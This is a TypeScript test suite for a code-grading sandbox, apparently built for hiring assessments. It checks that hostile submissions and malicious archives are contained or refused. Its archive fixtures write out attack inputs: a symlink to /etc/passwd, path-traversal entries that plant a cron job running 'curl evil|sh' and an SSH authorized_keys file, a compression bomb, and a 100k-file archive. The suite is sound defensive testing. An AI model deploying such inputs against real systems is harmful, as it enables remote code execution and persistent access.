import { randomBytes } from 'node:crypto';
import * as path from 'node:path';
import { ArchiveError, readArchive } from '../../src/sandbox/archive';
import { SandboxResult, SandboxRunner } from '../../src/sandbox/sandbox-runner';
import { buildManyFilesTarGz, buildTarGz, RawTarEntry } from './helpers/tar-writer';
import { buildZip, RawZipEntry } from './helpers/zip-writer';
import { containersOfRun, docker, filesOf, listDirs, mapLimit, readJson, sandboxContainers } from './helpers/sandbox-test-kit';

/**
 * The hostile corpus: each folder under hostile/ is a submission trying to hurt the host or
 * cheat the grader, with a small hidden test and the status the run must end with. Archive
 * cases are refused by archive.ts before any container exists.
 */
interface HostileCase {
  runtime?: string;
  description: string;
  limits?: Record<string, number>;
  archive?: string;
  hostSecretEnv?: string;
  expect: {
    status?: string;
    archiveError?: string;
    tests?: Record<string, string>;
    droppedFiles?: Array<{ path: string; reason: string }>;
    logMustContain?: string[];
    logMustNotContain?: string[];
    logTruncated?: boolean;
    reasonMatches?: string;
    maxTotalMs?: number;
  };
}

const HOSTILE = path.join(__dirname, 'hostile');
const cases = listDirs(HOSTILE).map((name) => ({ name, spec: readJson<HostileCase>(path.join(HOSTILE, name, 'case.json')) }));
const runCases = cases.filter((c) => !c.spec.archive);
const archiveCases = cases.filter((c) => c.spec.archive);
const owner = `hostile-spec-${process.pid}`;
const runner = new SandboxRunner(docker, { owner });
const secretValue = `s3cr3t-${randomBytes(12).toString('hex')}`;

const results = new Map<string, { result?: SandboxResult; error?: Error; runId: string; leftovers: string[] }>();
let volumesBefore = 0;

beforeAll(async () => {
  volumesBefore = ((await docker.listVolumes()).Volumes ?? []).length;
  for (const c of runCases) if (c.spec.hostSecretEnv) process.env[c.spec.hostSecretEnv] = secretValue;
  process.env.HIRING_FAKE_SECRET = secretValue;
  await mapLimit(runCases, 2, async (c) => {
    const runId = `hostile-${c.name}-${process.pid}`;
    try {
      const result = await runner.run({
        runtime: c.spec.runtime!,
        runId,
        submission: await filesOf(path.join(HOSTILE, c.name, 'submission')),
        tests: await filesOf(path.join(HOSTILE, c.name, 'tests')),
        limits: c.spec.limits,
        // These cases probe the sandbox from inside the hidden tests: in a split run those run as
        // the grader, so they would probe the grader's side. They run unsplit, where the tests and the
        // code share the candidate's user (the split itself is attacked by the tamper corpus).
        split: false,
      });
      await runner.removal(runId);
      results.set(c.name, { result, runId, leftovers: await containersOfRun(runId) });
      if (process.env.SANDBOX_TEST_TIMINGS) process.stderr.write(`  hostile ${c.name}: ${result.status} in ${result.totalMs} ms\n`);
    } catch (e) {
      await runner.removal(runId);
      results.set(c.name, { error: e as Error, runId, leftovers: await containersOfRun(runId) });
    }
  });
}, 300_000);

afterAll(() => {
  delete process.env.HIRING_FAKE_SECRET;
});

describe('hostile submissions in the sandbox', () => {
  it.each(runCases.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const r = results.get(c.name)!;
    if (r.error) throw r.error;
    const result = r.result!;
    const e = c.spec.expect;
    const context = `${c.name}: ${result.status} (${result.reason ?? ''})\n${result.log.slice(-3000)}`;
    expect({ status: result.status, context }).toEqual({ status: e.status, context });
    expect(r.leftovers).toEqual([]);
    if (e.tests) {
      const got = Object.fromEntries(result.tests.filter((t) => t.name in e.tests!).map((t) => [t.name, t.status]));
      expect(got).toEqual(e.tests);
    }
    if (e.droppedFiles) expect(result.droppedFiles).toEqual(expect.arrayContaining(e.droppedFiles));
    for (const s of e.logMustContain ?? []) expect(result.log).toContain(s);
    for (const s of e.logMustNotContain ?? []) expect(result.log).not.toContain(s);
    if (e.logTruncated !== undefined) expect(result.logTruncated).toBe(e.logTruncated);
    if (e.reasonMatches) expect(result.reason).toMatch(new RegExp(e.reasonMatches));
    if (e.maxTotalMs) expect(result.totalMs).toBeLessThan(e.maxTotalMs);
    if (result.status === 'timeout') expect(result.durationMs).toBeLessThan(result.limits.timeoutMs + 5000);
    if (result.status === 'output_exceeded') expect(result.outputBytes).toBeLessThan(result.limits.outputBytes + 1024 * 1024);
    // The worker's own secret never reaches the sandbox, whatever the case.
    expect(result.log).not.toContain(secretValue);
    expect(JSON.stringify(result.tests)).not.toContain(secretValue);
  });

  it('leaves the host clean: no sandbox container and no volume left behind', async () => {
    expect(await sandboxContainers(owner)).toEqual([]);
    expect(((await docker.listVolumes()).Volumes ?? []).length).toBe(volumesBefore);
  });
});

const archiveMakers: Record<string, () => Promise<Buffer[]>> = {
  'symlink-passwd': async () => {
    const zip: RawZipEntry[] = [
      { name: 'solution.py', data: 'x = 1\n' },
      { name: 'data/passwd', data: '/etc/passwd', unixMode: 0o120777 },
    ];
    const tgz: RawTarEntry[] = [
      { name: 'solution.py', data: 'x = 1\n' },
      { name: 'data/passwd', type: 'symlink', linkname: '/etc/passwd' },
    ];
    return [buildZip(zip), await buildTarGz(tgz)];
  },
  'path-traversal': async () => [
    buildZip([
      { name: 'solution.py', data: 'x' },
      { name: '../../../../etc/cron.d/evil', data: '* * * * * root sh -c "curl evil|sh"\n' },
    ]),
    await buildTarGz([
      { name: 'solution.py', data: 'x' },
      { name: 'src/../../../root/.ssh/authorized_keys', data: 'ssh-rsa AAAA' },
    ]),
  ],
  bomb: async () => {
    const zeros = Buffer.alloc(200 * 1024 * 1024);
    return [
      buildZip([
        { name: 'solution.py', data: 'x' },
        { name: 'bomb.bin', data: zeros },
      ]),
      buildManyFilesTarGz(1, () => 'bomb.bin', zeros),
    ];
  },
  '100k-files': async () => {
    const entries = Array.from({ length: 100_000 }, (_, i) => ({ name: `f/${i}.txt`, data: 'x', deflate: false }));
    return [buildZip(entries), buildManyFilesTarGz(100_000, (i) => `f/${i}.txt`)];
  },
};

describe('hostile submission archives (refused by archive.ts)', () => {
  it.each(archiveCases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    const archives = await archiveMakers[c.spec.archive!]();
    for (const archive of archives) {
      if (c.spec.archive === 'bomb') expect(archive.length).toBeLessThan(1024 * 1024);
      const error = await readArchive(archive).then(
        () => null,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(ArchiveError);
      expect((error as ArchiveError).code).toBe(c.spec.expect.archiveError);
    }
  });
});
